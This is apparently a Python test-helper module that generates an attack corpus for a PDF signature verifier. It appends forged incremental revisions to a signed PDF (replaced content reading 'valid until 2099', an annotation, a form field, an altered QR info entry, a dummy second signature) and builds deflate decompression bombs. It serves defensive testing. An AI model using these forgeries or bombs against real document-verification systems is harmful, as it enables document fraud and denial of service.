"""Forged incremental updates for tests/attack_corpus.py: revisions appended to a genuine,
signed PDF with pyHanko's incremental writer (ISA, shadow and certification attacks: new page
content, an annotation, a form field, edited document information, a second signature field),
and decompression bombs, in a file of their own and in an appended revision.
"""
from __future__ import annotations

import zlib
from io import BytesIO


def incremental(data: bytes, change) -> bytes:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    writer = IncrementalPdfFileWriter(BytesIO(data))
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer):
    ref = writer.root["/Pages"].raw_get("/Kids")[0]
    return ref.get_object()


def replace_page_content(writer):
    from pyhanko.pdf_utils import generic

    page = _page(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(
        stream_data=b"BT /F1 40 Tf 80 600 Td (FORGED: valid until 2099) Tj ET"))
    writer.update_container(page)


def add_annotation(writer):
    from pyhanko.pdf_utils import generic

    page = _page(writer)
    annot = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (50, 50, 400, 120)]),
        generic.NameObject("/Contents"): generic.TextStringObject("加注有效期至 2099-12-31"),
        generic.NameObject("/DA"): generic.TextStringObject("/Helv 18 Tf 0 g"),
    })
    page["/Annots"] = generic.ArrayObject([writer.add_object(annot)])
    writer.update_container(page)


def add_form_field(writer):
    from pyhanko.pdf_utils import generic

    form = writer.root["/AcroForm"]
    field = generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Tx"),
        generic.NameObject("/T"): generic.TextStringObject("valid_until"),
        generic.NameObject("/V"): generic.TextStringObject("2099-12-31"),
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Widget"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (50, 50, 300, 80)]),
    })
    form["/Fields"].append(writer.add_object(field))
    writer.update_container(form)


def edit_info(writer):
    """Shadow-style: only the document information (where the QR payload sits) changes."""
    from pyhanko.pdf_utils import generic

    info = writer.trailer["/Info"]
    info[generic.NameObject("/CertcliQR")] = generic.TextStringObject("CC1:FORGED")
    writer.update_container(info)


def second_signature(writer):
    from pyhanko.pdf_utils import generic

    sig = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Sig"),
        generic.NameObject("/Filter"): generic.NameObject("/Adobe.PPKLite"),
        generic.NameObject("/SubFilter"): generic.NameObject("/ETSI.CAdES.detached"),
        generic.NameObject("/ByteRange"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 10, 20, 30)]),
        generic.NameObject("/Contents"): generic.ByteStringObject(b"\0" * 64),
    })
    field = generic.DictionaryObject({
        generic.NameObject("/FT"): generic.NameObject("/Sig"),
        generic.NameObject("/T"): generic.TextStringObject("Approval"),
        generic.NameObject("/V"): writer.add_object(sig),
    })
    form = writer.root["/AcroForm"]
    form["/Fields"].append(writer.add_object(field))
    writer.update_container(form)


def inflate_bomb(size: int = 256 * 2**20) -> bytes:
    """Deflate data that inflates to ``size`` bytes (~1000:1)."""
    packer = zlib.compressobj(9)
    chunk = b"\0" * 2**20
    return b"".join(packer.compress(chunk) for _ in range(size // len(chunk))) + packer.flush()


def bomb_pdf() -> bytes:
    bomb = inflate_bomb()
    body = (b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n"
            b"4 0 obj\n<< /Length " + str(len(bomb)).encode() + b" /Filter /FlateDecode >>\nstream\n" + bomb +
            b"\nendstream\nendobj\n")
    return body + b"trailer\n<< /Root 1 0 R /Size 5 >>\nstartxref\n0\n%%EOF\n"


def bomb_update(data: bytes) -> bytes:
    """An incremental update whose new page content is a decompression bomb."""
    from pyhanko.pdf_utils import generic

    def change(writer):
        page = _page(writer)
        stream = generic.StreamObject(encoded_data=inflate_bomb(64 * 2**20))
        stream[generic.NameObject("/Filter")] = generic.NameObject("/FlateDecode")
        page["/Contents"] = writer.add_object(stream)
        writer.update_container(page)

    return incremental(data, change)
